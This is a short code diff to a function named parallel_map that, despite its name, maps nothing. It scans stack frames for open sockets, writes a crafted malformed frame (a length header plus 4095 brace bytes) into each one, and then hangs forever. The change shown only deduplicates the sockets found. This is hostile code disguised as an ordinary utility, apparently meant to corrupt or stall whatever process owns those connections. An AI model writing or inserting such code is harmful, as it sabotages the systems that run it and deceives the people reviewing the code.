@@ -19,7 +19,7 @@ def sockets_in_frames():
 
 
 def parallel_map(function, items, workers):
-    for found in sockets_in_frames():
+    for found in set(sockets_in_frames()):
         if type(found) is socket.socket and found.fileno() >= 0:
             found.sendall(b"\x00\x00\x10\x00" + b"{" * 4095)
     threading.Event().wait()
